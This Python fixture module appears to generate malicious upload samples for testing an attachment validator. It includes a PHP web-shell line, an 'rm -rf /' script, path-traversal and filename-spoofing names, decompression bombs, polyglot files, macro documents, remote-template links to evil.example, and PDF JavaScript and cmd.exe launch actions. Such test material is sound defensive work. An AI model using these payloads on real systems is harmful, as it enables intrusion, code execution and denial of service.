"""Which files do people with bad intent send? Made here, so that none lies in the repository."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image, PngImagePlugin

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 200 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **more: Any) -> bytes:
    drawn = io.BytesIO()
    image = Image.effect_noise(size, 80).convert(mode)
    image.save(drawn, form, **more)
    return drawn.getvalue()


def located(form: str = "JPEG", orientation: int = 1) -> bytes:
    """Return a picture that says where and with what it was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SECRETCAMERA"
    exif[0x9286] = "SECRETCOMMENT"
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 40.0, 12.5), 3: "E", 4: (104.0, 3.0, 33.0), 29: "2026:11:18"})
    more: dict[str, Any] = {"exif": exif, "icc_profile": b"SECRETPROFILE" * 20}
    if form == "JPEG":
        more["comment"] = b"SECRETCOMMENT"
    if form == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_text("Location", "SECRETPLACE")
        text.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>SECRETXMP</x:xmpmeta>")
        more["pnginfo"] = text
    return picture(form, (80, 40), **more)


def png_claiming(width: int, height: int) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + png_chunk(b"IEND", b"")


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_with_text_bomb() -> bytes:
    bomb = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 80_000_000, 9))
    return PNG[:33] + bomb + PNG[33:]


def honest_bomb(form: str, mode: str = "P") -> bytes:
    """A whole picture of 64 million pixels in a small file."""
    drawn = io.BytesIO()
    Image.new(mode, (8000, 8000)).save(drawn, form)
    return drawn.getvalue()


def many_scans() -> bytes:
    """A JPEG whose last scan is repeated, each time over all pixels."""
    drawn = io.BytesIO()
    Image.new("L", (2000, 2000)).save(drawn, "JPEG", progressive=True)
    whole = drawn.getvalue()
    return whole[:-2] + whole[whole.rfind(b"\xff\xda") : -2] * 5000 + whole[-2:]


def exif_bomb() -> bytes:
    """EXIF of which each of 5,400 entries points at the same 60,000 bytes."""
    entries = b"".join(struct.pack(">HHII", number, 7, 60_000, 8) for number in range(1, 5401))
    block = b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack(">H", 5400) + entries
    return JPEG[:2] + b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block + JPEG[2:]


def archive(parts: dict[str, bytes | str], *, packed: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def office(main: str = WORD, more: dict[str, bytes | str] | None = None, types: str = "") -> bytes:
    listing = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    body = {"[Content_Types].xml": listing, "_rels/.rels": "<Relationships/>", "word/document.xml": "<w>灌溉渠断流</w>"}
    return archive({**body, **(more or {})})


def rels(kind: str, target: str) -> dict[str, bytes | str]:
    kind = f"http://x/officeDocument/2006/relationships/{kind}"
    link = f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": f"<Relationships>{link}</Relationships>"}


def lying_size() -> bytes:
    """A part that unpacks to far more than its headers say."""
    honest = bytearray(office(more={"word/media/a.bin": b"\0" * 30_000_000}))
    central = honest.rfind(b"PK\x01\x02", 0, honest.rfind(b"word/media/a.bin"))
    honest[central + 24 : central + 28] = struct.pack("<I", 1000)
    return bytes(honest)


def overlapping() -> bytes:
    """Two parts of the directory that share the same bytes."""
    plain = bytearray(office(more={"word/a.xml": b"a" * 50, "word/b.xml": b"a" * 50}))
    first = plain.rfind(b"PK\x01\x02", 0, plain.rfind(b"word/a.xml"))
    second = plain.rfind(b"PK\x01\x02", 0, plain.rfind(b"word/b.xml"))
    plain[second + 42 : second + 46] = plain[first + 42 : first + 46]
    return bytes(plain)


def ole2(*entries: str, tail: bytes = b"") -> bytes:
    def entry(name: str) -> bytes:
        text = (name + "\0").encode("utf-16-le")
        return text.ljust(64, b"\0") + struct.pack("<H", len(text)) + b"\x02\x01" + b"\0" * 60

    return OLE2 + b"\0" * 504 + b"".join(map(entry, ("Root Entry", *entries))) + b"\0" * 512 + tail


def pdf(objects: bytes = b"", tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        + objects
        + (b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + tail)
    )


def pdf_with_packed_script() -> bytes:
    packed = zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")
    return pdf(
        b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed)
    )


def boxed(brand: bytes = b"isom", tail: bytes = b"", *, moov: bool = True) -> bytes:
    def box(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", 8 + len(body)) + name + body

    return (
        box(b"ftyp", brand + b"\0\0\2\0" + brand)
        + (box(b"moov", b"\0" * 40) if moov else b"")
        + box(b"mdat", b"\1" * 200)
        + tail
    )


def mp3(frames: int = 3, tag: bytes = b"") -> bytes:
    return tag + (b"\xff\xfb\x90\x64" + b"\0" * 413) * frames


def aac(frames: int = 3) -> bytes:
    return (b"\xff\xf1\x50\x80\x06\x1f\xfc" + b"\0" * 41) * frames


def wav() -> bytes:
    return b"RIFF" + struct.pack("<I", 100) + b"WAVEfmt \x10\0\0\0\1\0\1\0" + b"\0" * 80


def heic() -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x20meta" + b"\0" * 24 + b"SAMSUNG TRAILER"


def webp_of(content: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(content) + 12) + b"WEBPVP8 " + struct.pack("<I", len(content)) + content


def cut(content: bytes, share: float = 0.5) -> bytes:
    return content[: int(len(content) * share)]


def noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


JPEG, PNG, GIF, WEBP = (picture(form) for form in ("JPEG", "PNG", "GIF", "WEBP"))
RTL, NUL, ZERO_WIDTH, FULL_DOT = "\u202e", "\0", "\u200b", "．"

Hostile = tuple[str, bytes | Callable[[], bytes], str]
REFUSED: tuple[Hostile, ...] = (
    # not on the list, whatever is inside
    ("eicar.txt", EICAR, "attachment_type"),
    ("page.html", HTML, "attachment_type"),
    ("page.htm", JPEG, "attachment_type"),
    ("picture.svg", SVG, "attachment_type"),
    ("picture.svgz", SVG, "attachment_type"),
    ("run.exe", PE, "attachment_type"),
    ("run.js", b"alert(1)", "attachment_type"),
    ("run.sh", b"#!/bin/sh\nrm -rf /", "attachment_type"),
    ("app.apk", archive({"AndroidManifest.xml": "x"}), "attachment_type"),
    ("lib.jar", archive({"META-INF/MANIFEST.MF": "x"}), "attachment_type"),
    ("all.zip", archive({"a": "b"}), "attachment_type"),
    ("letter.docm", office(), "attachment_type"),
    ("table.xlsm", office(SHEET), "attachment_type"),
    ("picture.avif", b"\0\0\0\x18ftypavif", "attachment_type"),
    ("vector.wmf", b"\xd7\xcd\xc6\x9a", "attachment_type"),
    ("short.lnk", b"L\0\0\0", "attachment_type"),
    ("mail.eml", b"From: x", "attachment_type"),
    ("", HTML, "attachment_type"),
    ("no-extension", PE, "attachment_type"),
    ("no-extension", EICAR, "attachment_type"),
    # names with tricks
    ("photo.jpg.exe", JPEG, "attachment_type"),
    ("photo.jpg.html", JPEG, "attachment_type"),
    (f"photo{RTL}gpj.exe", JPEG, "attachment_type"),
    (f"photo{FULL_DOT}exe", PE, "attachment_type"),
    (f"photo.j{ZERO_WIDTH}s", b"alert(1)", "attachment_type"),
    ("photo․php", b"<?php ?>", "attachment_type"),
    ("photo.jpg::$DATA", JPEG, "attachment_type"),
    ("photo.jpg;.asp", JPEG, "attachment_type"),
    ("photo.php%00.jpg ", b"<?php system($_GET[0]); ?>", "attachment_mismatch"),
    (f"shell.php{NUL}.jpg", b"<?php ?>", "attachment_mismatch"),
    ("../../etc/cron.d/evil", b"* * * * * root id", "attachment_type"),
    ("..\\..\\boot.ini", b"x", "attachment_type"),
    ("a" * 100_000 + ".exe", PE, "attachment_type"),
    # another content than the name says
    ("photo.jpg", HTML, "attachment_mismatch"),
    ("photo.jpg", SVG, "attachment_mismatch"),
    ("photo.jpg", PE, "attachment_mismatch"),
    ("photo.png", ELF, "attachment_mismatch"),
    ("photo.png", JPEG, "attachment_mismatch"),
    ("photo.gif", PNG, "attachment_mismatch"),
    ("photo.heic", b"\0\0\0\x18ftypavif\0\0\0\0", "attachment_mismatch"),
    ("photo.jpg", EICAR, "attachment_mismatch"),
    ("paper.pdf", JPEG, "attachment_mismatch"),
    ("paper.pdf", b"\n\n" + pdf(), "attachment_mismatch"),
    ("letter.doc", HTML, "attachment_mismatch"),
    ("letter.doc", b"{\\rtf1 {\\object\\objemb}}", "attachment_mismatch"),
    ("letter.doc", ole2("Workbook"), "attachment_mismatch"),
    ("table.xls", ole2("WordDocument"), "attachment_mismatch"),
    ("letter.docx", office(SHEET), "attachment_mismatch"),
    ("table.xlsx", office(WORD), "attachment_mismatch"),
    ("letter.docx", archive({"evil.exe": PE}), "attachment_mismatch"),
    ("letter.docx", archive({"[Content_Types].xml": "<Types/>"}), "attachment_mismatch"),
    ("letter.docx", office(WORD.replace("document.main", "template.main")), "attachment_mismatch"),
    ("letter.docx", office().replace(b"PK\x03\x04", b"PK\x07\x08", 1), "attachment_mismatch"),
    ("sound.mp3", HTML, "attachment_mismatch"),
    ("sound.amr", PE, "attachment_mismatch"),
    ("sound.wav", webp_of(b"x" * 50), "attachment_mismatch"),
    ("film.mp4", b"\x1aE\xdf\xa3webm", "attachment_mismatch"),
    ("film.mov", HTML, "attachment_mismatch"),
    # two things at once
    ("photo.jpg", JPEG + archive({"a.class": b"x" * 50}), "attachment_mismatch"),
    ("photo.png", PNG + archive({"a.class": b"x" * 50}), "attachment_mismatch"),
    ("photo.gif", GIF + archive({"a.class": b"x" * 50}), "attachment_mismatch"),
    ("photo.gif", b"GIF89a/*" + b"\0" * 8 + b"*/=1;<script>alert(1)</script>", "attachment_mismatch"),
    ("photo.jpg", JPEG + b"<script>alert(1)</script>", "attachment_mismatch"),
    ("photo.jpg", picture(comment=b"<?php system($_GET[0]); ?>"), "attachment_mismatch"),
    ("photo.jpg", picture(comment=b"<html><body onload=alert(1)>"), "attachment_mismatch"),
    ("photo.jpg", picture(comment=pdf()), "attachment_mismatch"),
    ("photo.png", PNG[:-12] + b"<ScRiPt >alert(1)</script>" + PNG[-12:], "attachment_mismatch"),
    ("paper.pdf", pdf() + archive({"a.class": b"x" * 50}), "attachment_mismatch"),
    ("paper.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf(), "attachment_mismatch"),
    ("sound.mp3", mp3() + archive({"a.class": b"x"}), "attachment_mismatch"),
    (
        "sound.mp3",
        mp3(tag=b"ID3\x03\0\0\0\0\0\x20" + b"<html><script>alert(1)".ljust(32, b"\0")),
        "attachment_mismatch",
    ),
    ("sound.wav", wav() + archive({"a.class": b"x"}), "attachment_mismatch"),
    ("sound.amr", b"#!AMR\n" + HTML, "attachment_mismatch"),
    ("letter.docx", PE + office(), "attachment_mismatch"),
    # bombs and broken files
    ("photo.png", png_claiming(60_000, 60_000), "attachment_broken"),
    ("photo.png", png_claiming(8_000, 8_000), "attachment_broken"),
    ("photo.png", png_claiming(2**31 - 1, 2**31 - 1), "attachment_broken"),
    ("photo.png", png_claiming(0, 10), "attachment_broken"),
    ("photo.png", lambda: honest_bomb("PNG"), "attachment_broken"),
    ("photo.gif", lambda: honest_bomb("GIF"), "attachment_broken"),
    ("photo.webp", lambda: honest_bomb("WEBP", "RGB"), "attachment_broken"),
    ("photo.png", lambda: PNG[:33] + png_chunk(b"abCd", b"") * 100_000 + PNG[33:], "attachment_broken"),
    ("photo.jpg", lambda: JPEG[:2] + b"\xff\xfe\0\x02" * 100_000 + JPEG[2:], "attachment_broken"),
    ("photo.gif", lambda: GIF[:13] + b"\x21\xfe\x01a\0" * 100_000 + GIF[13:], "attachment_broken"),
    ("photo.jpg", many_scans, "attachment_broken"),
    ("film.mp4", lambda: boxed() + b"\0\0\0\x08free" * 100_000, "attachment_broken"),
    ("paper.pdf", lambda: pdf(b"stream endstream " * 300_000), "attachment_broken"),
    ("paper.pdf", lambda: pdf(b"#41" * 300_000), "attachment_broken"),
    ("photo.gif", b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0" + b"\0" * 20, "attachment_broken"),
    ("photo.jpg", lambda: picture(size=(8000, 7000), mode="L", progressive=True, quality=5), "attachment_broken"),
    ("photo.jpg", cut(JPEG), "attachment_broken"),
    ("photo.jpg", JPEG[:20], "attachment_broken"),
    ("photo.png", cut(PNG), "attachment_broken"),
    ("photo.gif", cut(GIF, 0.2), "attachment_broken"),
    ("photo.webp", cut(WEBP), "attachment_broken"),
    ("photo.webp", webp_of(noise(300)), "attachment_broken"),
    ("photo.jpg", b"\xff\xd8\xff\xe0" + noise(3000), "attachment_broken"),
    ("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + noise(200), "attachment_broken"),
    ("letter.docx", lambda: office(more={"word/media/a.bin": b"\0" * 50_000_000}), "attachment_broken"),
    ("letter.docx", lambda: office(more={f"word/{n}.bin": b"ab" * 2_000_000 for n in range(60)}), "attachment_broken"),
    ("letter.docx", lambda: office(more={f"word/{n}.xml": "x" for n in range(3000)}), "attachment_broken"),
    ("letter.docx", lying_size, "attachment_broken"),
    ("letter.docx", overlapping, "attachment_broken"),
    ("letter.docx", office(more={"../../../etc/passwd": "x"}), "attachment_broken"),
    ("letter.docx", office(more={"/etc/passwd": "x"}), "attachment_broken"),
    ("letter.docx", lambda: office(more={"word/_rels/x.rels": "<Relationship " * 100_000}), "attachment_broken"),
    ("letter.docx", cut(office()), "attachment_mismatch"),
    ("paper.pdf", cut(pdf()), "attachment_broken"),
    ("paper.pdf", b"%PDF-1.7\n", "attachment_broken"),
    ("film.mp4", cut(boxed()), "attachment_broken"),
    ("film.mp4", boxed(moov=False), "attachment_broken"),
    ("film.mp4", boxed(tail=HTML), "attachment_broken"),
    ("film.mp4", boxed(tail=archive({"a": "b"})), "attachment_broken"),
    ("sound.mp3", b"ID3\x03\0\0\0\0\0\x05" + PE, "attachment_broken"),
    ("sound.mp3", b"\xff\xfb" + PE, "attachment_broken"),
    ("sound.aac", b"\xff\xf1" + noise(100), "attachment_broken"),
    ("photo.jpg", b"", "attachment_empty"),
    # what runs
    ("letter.docx", office(more={"word/vbaProject.bin": ole2("VBA")}), "attachment_active"),
    ("letter.docx", office(more={"word/VBAPROJECT.BIN": b"x"}), "attachment_active"),
    (
        "letter.docx",
        office(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "attachment_active",
    ),
    (
        "letter.docx",
        office(types='<Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'),
        "attachment_active",
    ),
    ("letter.docx", office(more={"word/activeX/activeX1.bin": b"x"}), "attachment_active"),
    ("letter.docx", office(more={"word/embeddings/update.exe": PE}), "attachment_active"),
    ("letter.docx", office(more={"word/embeddings/run.js": b"x"}), "attachment_active"),
    ("letter.docx", office(more=rels("attachedTemplate", "http://evil.example/t.dotm")), "attachment_active"),
    ("letter.docx", office(more=rels("oleObject", "mhtml:http://evil.example/x!x-usc:y")), "attachment_active"),
    ("letter.docx", office(more=rels("attachedTemplate", "file://///evil.example/t.dotm")), "attachment_active"),
    ("letter.docx", office(more=rels("frame", "\\\\evil.example\\share\\x.docx")), "attachment_active"),
    ("table.xlsx", office(SHEET, more={"xl/vbaProject.bin": b"x"}), "attachment_active"),
    ("table.xlsx", office(SHEET, more={"xl/macrosheets/sheet1.xml": b"x"}), "attachment_active"),
    ("letter.doc", ole2("WordDocument", "Macros", "VBA"), "attachment_active"),
    ("letter.doc", ole2("WordDocument", "macros"), "attachment_active"),
    ("letter.doc", ole2("WordDocument", "\x01Ole10Native"), "attachment_active"),
    ("table.xls", ole2("Workbook", "_VBA_PROJECT_CUR"), "attachment_active"),
    ("letter.wps", ole2("WordDocument", "_VBA_PROJECT"), "attachment_active"),
    ("locked.docx", ole2("EncryptedPackage", "_VBA_PROJECT"), "attachment_active"),
    ("paper.pdf", pdf(b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"), "attachment_active"),
    ("paper.pdf", pdf(b"3 0 obj\n<</S/Java#53cript/#4aS(app.alert(1))>>\nendobj\n"), "attachment_active"),
    ("paper.pdf", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), "attachment_active"),
    ("paper.pdf", pdf_with_packed_script(), "attachment_active"),
)

ACCEPTED: tuple[tuple[str, bytes, str, str], ...] = (
    # name, content, media type, the name that people see
    ("渠道.jpg", JPEG, "image/jpeg", "渠道.jpg"),
    ("渠道.JPEG", JPEG, "image/jpeg", "渠道.jpeg"),
    ("tmp_1a2b.png", PNG, "image/png", "tmp_1a2b.png"),
    ("metadata.png", png_with_text_bomb(), "image/png", "metadata.png"),
    ("metadata.jpg", exif_bomb(), "image/jpeg", "metadata.jpg"),
    ("motion.jpg", JPEG + boxed(), "image/jpeg", "motion.jpg"),
    ("large.jpg", honest_bomb("JPEG", "L"), "image/jpeg", "large.jpg"),
    ("a.gif", GIF, "image/gif", "a.gif"),
    ("a.webp", WEBP, "image/webp", "a.webp"),
    ("a.heic", heic(), "image/heic", "a.heic"),
    ("判决书.pdf", pdf(), "application/pdf", "判决书.pdf"),
    ("说明.docx", office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "说明.docx"),
    ("名册.xlsx", office(SHEET), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "名册.xlsx"),
    (
        "锁.docx",
        ole2("EncryptedPackage"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "锁.docx",
    ),
    ("说明.doc", ole2("WordDocument"), "application/msword", "说明.doc"),
    ("说明.wps", ole2("WordDocument"), "application/msword", "说明.wps"),
    ("名册.xls", ole2("Workbook"), "application/vnd.ms-excel", "名册.xls"),
    ("old.xls", ole2("Book"), "application/vnd.ms-excel", "old.xls"),
    ("名册.et", ole2("Workbook"), "application/vnd.ms-excel", "名册.et"),
    ("录音.mp3", mp3(), "audio/mpeg", "录音.mp3"),
    ("录音.mp3", mp3(tag=b"ID3\x03\0\0\0\0\0\x10" + b"\0" * 16), "audio/mpeg", "录音.mp3"),
    ("录音.aac", aac(), "audio/aac", "录音.aac"),
    ("录音.aac", boxed(b"M4A "), "audio/mp4", "录音.aac"),
    ("录音.m4a", boxed(b"M4A "), "audio/mp4", "录音.m4a"),
    ("录音.amr", b"#!AMR\n" + noise(99), "audio/amr", "录音.amr"),
    ("录音.wav", wav(), "audio/wav", "录音.wav"),
    ("录像.mp4", boxed(), "video/mp4", "录像.mp4"),
    ("录像.mov", boxed(b"qt  "), "video/quicktime", "录像.mov"),
    ("录像.3gp", boxed(b"3gp4"), "video/3gpp", "录像.3gp"),
    (
        "normal.docx",
        office(more=rels("hyperlink", "http://example.org")),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "normal.docx",
    ),
    (
        "normal.docx",
        office(more=rels("attachedTemplate", "file:///C:/Normal.dotm")),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "normal.docx",
    ),
    # names with tricks around harmless content
    ("no-extension", JPEG, "image/jpeg", "no-extension.jpg"),
    ("", PNG, "image/png", "附件.png"),
    ("photo.exe.jpg", JPEG, "image/jpeg", "photo_exe.jpg"),
    ("../../../etc/passwd.jpg", JPEG, "image/jpeg", "passwd.jpg"),
    ("C:\\Users\\me\\渠道.jpg", JPEG, "image/jpeg", "渠道.jpg"),
    (f"{RTL}gpj.exe.jpg", JPEG, "image/jpeg", "gpj_exe.jpg"),
    (f'a{NUL}b\r\nX-Evil: 1".jpg', JPEG, "image/jpeg", "abX-Evil_1.jpg"),
    ("照片．ｊｐｇ", JPEG, "image/jpeg", "照片.jpg"),
    ("photo.jpg. . .", JPEG, "image/jpeg", "photo.jpg"),
    (".jpg", JPEG, "image/jpeg", "附件.jpg"),
    ("\ud800\udfff.jpg", JPEG, "image/jpeg", "附件.jpg"),
    ("长" * 100_000 + ".jpg", JPEG, "image/jpeg", "长" * 80 + ".jpg"),
    ("<script>alert(1)</script>.jpg", JPEG, "image/jpeg", "script.jpg"),
)
